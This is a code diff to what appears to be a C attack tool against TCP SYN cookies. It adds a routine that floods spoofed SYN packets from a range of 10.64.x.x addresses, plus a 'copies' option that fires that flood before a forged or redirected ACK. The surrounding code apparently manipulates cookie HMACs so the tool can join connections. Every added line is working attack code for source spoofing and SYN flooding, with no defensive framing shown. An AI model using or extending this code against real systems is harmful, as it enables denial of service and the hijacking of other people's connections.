@@ -5,6 +5,10 @@
 
 #include "attacker.h"
 
+#define FLOOD_BURST 32
+#define FLOOD_PORT 10000
+#define FLOOD_NETWORK 0x0a400000U /* 10.64.0.0 */
+
 static void learned_ack_mask(const struct connection *connection,
 			     uint8_t mask[ACK_HMAC_LEN])
 {
@@ -54,7 +58,30 @@ static void choose_ack(const struct attempt *attempt,
 }
 
 /*
+ * The same SYN from as many other addresses. They have one port and one sequence number, so
+ * with SYN cookies the kernel keeps all of them in one slot, which is not that of @attempt.
+ */
+static void push_out(const struct attempt *attempt, unsigned int count)
+{
+	struct attempt copy = *attempt;
+	struct frame frame;
+	unsigned int nr;
+
+	copy.from.port = htons(FLOOD_PORT);
+	copy.seq = random32();
+	copy.peer_seq = 0;
+	for (nr = 0; nr < count; nr++) {
+		copy.from.addr = htonl(FLOOD_NETWORK + nr);
+		send_syn(&copy);
+		if (nr % FLOOD_BURST == 0)
+			while (pump(now_ms(), false, &frame))
+				;
+	}
+}
+
+/*
  * via=ADDR	 the ACK goes to that address, with a cookie of its listener
+ * copies=N	 before the ACK the SYN is sent from N other addresses
  */
 bool cmd_join(void)
 {
@@ -83,6 +110,7 @@ bool cmd_join(void)
 	printf(" synack=%s", synack_hmac(target, &attempt) == attempt.synack ?
 				     "plain" :
 				     "masked");
+	push_out(&attempt, arg_number("copies", "0"));
 	choose_ack(&attempt, target, teacher, hmac);
 	if (via) {
 		attempt.to.addr = via;
